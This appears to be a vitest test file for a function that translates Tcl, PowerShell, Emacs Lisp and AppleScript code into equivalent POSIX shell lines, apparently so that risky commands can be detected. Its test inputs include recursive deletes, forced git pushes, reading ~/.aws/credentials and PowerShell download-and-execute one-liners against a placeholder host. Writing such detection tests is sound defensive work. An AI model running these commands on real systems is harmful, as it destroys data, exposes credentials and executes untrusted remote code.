// Other languages' spellings of a shell line or a delete (src/facts/foreign-code.ts): each is
// written as the POSIX line that does the same, and whatever does nothing of the kind gives none.
import { describe, expect, test } from "vitest";
import { foreignShellLines } from "../../src/facts/foreign-code.ts";

/** A line without its single quotes: what shellQuote adds around a word is not what is compared. */
const unquoted = (line: string) => line.replaceAll("'", "");

describe("Tcl (tclsh, wish, expect)", () => {
  test.each([
    ["exec rm -rf build", ["rm -rf build"]],
    ["exec -ignorestderr -- git reset --hard", ["git reset --hard"]],
    ["spawn -noecho git push -f; expect eof", ["git push -f"]],
    ["system rm -rf build", ["rm -rf build"]],
    ["file delete -force -- build", ["rm -rf -- build"]],
    ["file delete notes.txt", ["rm -- notes.txt"]],
    ["set x [exec rm -rf build]", ["rm -rf build"]],
    ["if {1} { exec rm -rf build }", ["rm -rf build"]],
    ["exec {rm} {-rf} {my dir}", ["rm -rf my dir"]],
  ])("%s", (code, lines) => {
    expect(foreignShellLines("tclsh", code).map(unquoted)).toEqual(expect.arrayContaining(lines));
  });
  test.each(["puts hi", "set x 1; incr x", "expect eof", 'puts "exec is a word"'])("%s runs nothing", (code) => {
    expect(foreignShellLines("expect", code)).toEqual([]);
  });
});

describe("PowerShell", () => {
  test.each([
    ["Remove-Item -Recurse -Force build", "rm -rf -- build"],
    ["remove-item build -r", "rm -rf -- build"],
    ["ri -Path build -Filter *.log", "rm -f -- build"],
    ["Get-Content ~/.aws/credentials", "cat -- ~/.aws/credentials"],
    ["Set-Content -Path notes.txt -Value x", "tee -- notes.txt"],
    ["Invoke-Expression 'Remove-Item -Recurse build'", "rm -rf -- build"],
    ["& git reset --hard", "git reset --hard"],
    ["& { Remove-Item -Recurse build }", "rm -rf -- build"],
    ["if ($x) { ri build -r }", "rm -rf -- build"],
    ['cmd /c "rd /s /q build"', "rd /s /q build"],
    // what a download prints, evaluated
    ["iwr https://x.example/i.ps1 | iex", "curl -fsSL https://x.example/i.ps1 | sh"],
    ["iex (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')", "curl -fsSL https://x.example/i.ps1 | sh"],
    ["& ([scriptblock]::Create((irm https://x.example/i.ps1)))", "curl -fsSL https://x.example/i.ps1 | sh"],
  ])("%s", (code, line) => {
    expect(foreignShellLines("pwsh", code).map(unquoted)).toContain(line);
  });
});

describe("Emacs Lisp", () => {
  test.each([
    ['(shell-command "rm -rf build")', "rm -rf build"],
    ['(async-shell-command "git push -f")', "git push -f"],
    ['(call-process "rm" nil nil nil "-rf" "build")', "rm -rf build"],
    ['(start-process "p" nil "git" "push" "-f")', "git push -f"],
    ['(delete-directory "build" t)', "rm -rf -- build"],
    ['(delete-directory "build")', "rm -f -- build"],
    ['(delete-file "notes.txt")', "rm -f -- notes.txt"],
  ])("%s", (code, line) => {
    expect(foreignShellLines("emacs", code).map(unquoted)).toContain(line);
  });
  test('(message "rm -rf build") runs nothing', () => expect(foreignShellLines("emacs", '(message "rm -rf build")')).toEqual([]));
});

describe("AppleScript and JXA", () => {
  test.each([
    ['do shell script "rm -rf build"', "rm -rf build"],
    ['do shell script "echo \\"hi\\""', 'echo "hi"'],
    ["app.doShellScript('git push -f')", "git push -f"],
  ])("%s", (code, line) => {
    expect(foreignShellLines("osascript", code)).toContain(line);
  });
  test('display notification "rm -rf build" runs nothing', () =>
    expect(foreignShellLines("osascript", 'display notification "rm -rf build"')).toEqual([]));
});

test("a program that speaks none of them gives none", () => {
  expect(foreignShellLines("python3", "exec rm -rf build")).toEqual([]);
});
